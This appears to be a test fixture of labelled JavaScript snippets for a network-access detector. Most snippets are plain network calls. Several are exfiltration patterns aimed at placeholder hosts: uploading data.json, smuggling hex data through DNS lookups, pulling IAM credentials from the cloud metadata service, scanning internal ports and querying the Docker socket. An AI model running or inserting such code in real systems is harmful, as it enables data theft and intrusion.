//--- net-http-get: plain http.get
const http = require('http');
http.get('http://192.0.2.10/payload', (res) => res.pipe(process.stdout));
//--- net-https-post: posts a file with https.request
const https = require('https');
const req = https.request({ hostname: 'collect.example.invalid', method: 'POST', path: '/up' });
req.write(require('fs').readFileSync('data.json'));
req.end();
//--- net-http-server: opens a listening server
require('http').createServer((q, s) => s.end('ok')).listen(8080);
//--- net-tcp-connect: raw TCP client
const net = require('net');
const sock = net.connect(4444, '192.0.2.10', () => sock.write('hello'));
//--- net-tcp-server: raw TCP listener
require('node:net').createServer((c) => c.pipe(c)).listen(31337, '0.0.0.0');
//--- net-unix-socket: talks to the docker socket
const net = require('net');
net.createConnection('/var/run/docker.sock').write('GET /containers/json HTTP/1.0\r\n\r\n');
//--- net-new-socket: Socket constructor
const { Socket } = require('net');
const s = new Socket();
s.connect({ host: '203.0.113.5', port: 9001 });
//--- net-tls-connect: TLS client
const tls = require('tls');
const c = tls.connect(443, 'collect.example.invalid', () => c.write('GET / HTTP/1.0\r\n\r\n'));
//--- net-dgram-send: UDP datagram
const dgram = require('dgram');
const u = dgram.createSocket('udp4');
u.send(Buffer.from('beacon'), 53, '192.0.2.53');
//--- net-dns-lookup: resolve a host name
require('dns').lookup('example.invalid', (e, a) => console.log(a));
//--- net-dns-exfil: data smuggled in a host name
const dns = require('node:dns');
const chunk = Buffer.from(JSON.stringify({ a: 1 })).toString('hex').slice(0, 60);
dns.resolveTxt(`${chunk}.leak.example.invalid`, () => {});
//--- net-dns-promises: dns/promises module
const { resolve4 } = require('dns/promises');
resolve4('example.invalid').then(console.log);
//--- net-http2-connect: HTTP/2 session
const http2 = require('http2');
const session = http2.connect('https://collect.example.invalid');
session.request({ ':path': '/' }).end();
//--- net-fetch-get: global fetch
fetch('http://192.0.2.10/x').then((r) => r.text()).then(console.log);
//--- net-fetch-await: awaited fetch with a body
const res = await fetch('https://collect.example.invalid/in', { method: 'POST', body: 'hi' });
console.log(res.status);
//--- net-globalthis-fetch: fetch off globalThis
globalThis.fetch('https://collect.example.invalid/in');
//--- net-global-fetch: fetch off global
global.fetch('https://collect.example.invalid/in').catch(() => {});
//--- net-websocket: WebSocket client
const ws = new WebSocket('ws://192.0.2.10:8080');
ws.onopen = () => ws.send('ready');
//--- net-xhr: XMLHttpRequest
const x = new XMLHttpRequest();
x.open('POST', 'http://192.0.2.10/collect');
x.send('data');
//--- net-esm-https-default: default import of https
import https from 'node:https';
https.get('https://collect.example.invalid/', (r) => r.resume());
//--- net-esm-named-get: named import of get
import { get } from 'http';
get('http://192.0.2.10/');
//--- net-esm-net-namespace: namespace import of net
import * as n from 'net';
n.connect(4444, '192.0.2.10');
//--- net-esm-side-alias: alias hides the request function
import { request as compute } from 'node:https';
compute('https://collect.example.invalid').end();
//--- net-export-star-http: re-exports http
export * from 'node:http';
//--- net-import-call-https: dynamic import of https
import('https').then(({ get }) => get('https://collect.example.invalid/'));
//--- net-destructured-request: destructured with rename
const { request: send } = require('http');
send({ host: '192.0.2.10', port: 80, method: 'PUT' }).end('x');
//--- net-http-agent: keep-alive agent and request
const http = require('http');
const agent = new http.Agent({ keepAlive: true });
http.request({ agent, host: '192.0.2.10' }).end();
//--- net-https-promise-wrapper: promise around https.get
const https = require('https');
const download = (url) => new Promise((ok, no) => {
  https.get(url, (r) => {
    let t = '';
    r.on('data', (d) => (t += d));
    r.on('end', () => ok(t));
  }).on('error', no);
});
download('https://example.invalid/run.js').then(console.log);
//--- net-third-party-axios: axios post
const axios = require('axios');
axios.post('https://collect.example.invalid/in', { v: 1 });
//--- net-third-party-undici: undici request
const { request } = require('undici');
request('https://collect.example.invalid/');
//--- net-third-party-ws: ws package
const WS = require('ws');
new WS('ws://192.0.2.10').on('open', function () { this.send('x'); });
//--- net-node-fetch: node-fetch package
import fetch from 'node-fetch';
await fetch('https://collect.example.invalid/');
//--- net-require-fs-and-net: bind shell port scan
const net = require('net');
for (let port = 1; port < 1024; port++) {
  const s = net.connect({ host: '10.0.0.1', port });
  s.on('connect', () => { console.log('open', port); s.destroy(); });
  s.on('error', () => {});
}
//--- net-cloud-metadata: asks the cloud metadata service
fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
  .then((r) => r.text())
  .then((t) => console.log(t));
//--- net-internal-http-client: private _http_client module
const { ClientRequest } = require('_http_client');
new ClientRequest('http://192.0.2.10/').end();
//--- net-internal-tls-wrap: private _tls_wrap module
const { connect } = require('_tls_wrap');
connect(443, 'collect.example.invalid');
//--- net-event-source: EventSource stream
const es = new EventSource('https://collect.example.invalid/stream');
es.onmessage = (e) => console.log(e.data);
//--- net-send-beacon: navigator.sendBeacon
navigator.sendBeacon('https://collect.example.invalid/b', 'payload');
